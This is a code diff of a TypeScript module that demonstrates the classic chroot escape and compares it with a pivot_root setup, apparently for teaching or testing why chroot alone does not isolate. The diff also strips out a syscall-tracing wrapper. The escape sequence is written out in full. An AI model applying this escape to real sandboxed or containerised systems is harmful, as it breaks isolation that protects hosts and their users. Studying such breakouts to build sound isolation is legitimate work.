@@ -15,10 +15,8 @@
  * namespace of its own; after the escape they only read.
  */
 import fs from 'node:fs';
-import { chroot } from '../kernel/chroot.js';
 import { MNT, MS } from '../kernel/constants.js';
-import { SyscallError } from '../kernel/errors.js';
-import type { Kernel, PrimitiveEvent } from '../kernel/kernel.js';
+import type { Kernel } from '../kernel/kernel.js';
 
 /** What a process sees as `/`: its top-level names and the NAME line of /etc/os-release. */
 export interface RootView {
@@ -50,37 +48,23 @@ export function lookAtRoot(): RootView {
   return { entries, osName };
 }
 
-/** chroot() reported as a PrimitiveEvent, like every Kernel call. */
-function tracedChroot(dir: string, emit: (e: PrimitiveEvent) => void): void {
-  const start = performance.now();
-  try {
-    chroot(dir);
-    emit({ kind: 'syscall', name: 'chroot', args: [JSON.stringify(dir)], result: '0', ok: true, durationMs: performance.now() - start });
-  } catch (err) {
-    if (err instanceof SyscallError) {
-      emit({ kind: 'syscall', name: 'chroot', args: [JSON.stringify(dir)], result: `-1 ${err.code}`, ok: false, durationMs: performance.now() - start, error: { code: err.code, text: err.text, hint: err.hint } });
-    }
-    throw err;
-  }
-}
-
 /** The escape attempt itself, from wherever `/` is now. */
-function attemptEscape(k: Kernel, emit: (e: PrimitiveEvent) => void): void {
+function attemptEscape(k: Kernel): void {
   fs.mkdirSync(`/${ESCAPE_DIR}`, { recursive: true, mode: 0o700 });
   k.chdir('/');
-  tracedChroot(ESCAPE_DIR, emit);
+  k.chroot(ESCAPE_DIR);
   // The working directory is now outside the root: each `..` climbs one level, up to the real top.
   for (let i = 0; i < 16; i++) k.chdir('..');
-  tracedChroot('.', emit);
+  k.chroot('.');
   k.chdir('/');
 }
 
 /** Enters `rootfs` with a plain chroot, then tries the escape. */
-export function escapeFromChroot(k: Kernel, rootfs: string, emit: (e: PrimitiveEvent) => void): EscapeResult {
-  tracedChroot(rootfs, emit);
+export function escapeFromChroot(k: Kernel, rootfs: string): EscapeResult {
+  k.chroot(rootfs);
   k.chdir('/');
   const before = lookAtRoot();
-  attemptEscape(k, emit);
+  attemptEscape(k);
   const after = lookAtRoot();
   return { before, after, escaped: !sameView(before, after) };
 }
@@ -90,14 +74,14 @@ export function escapeFromChroot(k: Kernel, rootfs: string, emit: (e: PrimitiveE
  * detach the old root — then tries the same escape. Call it in a new mount namespace whose `/` has
  * been made MS_REC|MS_PRIVATE.
  */
-export function escapeAfterPivotRoot(k: Kernel, rootfs: string, emit: (e: PrimitiveEvent) => void): EscapeResult {
+export function escapeAfterPivotRoot(k: Kernel, rootfs: string): EscapeResult {
   k.mount(rootfs, rootfs, null, MS.MS_BIND | MS.MS_REC, null);
   k.chdir(rootfs);
   k.pivotRoot('.', '.');
   k.umount2('.', MNT.MNT_DETACH);
   k.chdir('/');
   const before = lookAtRoot();
-  attemptEscape(k, emit);
+  attemptEscape(k);
   const after = lookAtRoot();
   return { before, after, escaped: !sameView(before, after) };
 }
